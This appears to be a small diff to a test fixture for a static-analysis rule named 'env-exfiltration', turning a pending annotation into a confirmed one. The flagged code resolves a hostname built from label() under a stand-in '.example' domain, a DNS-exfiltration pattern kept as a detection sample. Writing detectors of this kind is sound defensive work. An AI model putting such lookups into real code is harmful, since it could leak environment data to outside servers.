@@ -5,6 +5,6 @@ from .labels import label
 
 def is_near() -> bool:
     """Whether the region has a server."""
-    # todoruleid: env-exfiltration
+    # ruleid: env-exfiltration
     found = socket.getaddrinfo(f"{label()}.regions.peatbog.example", 443)
     return bool(found)
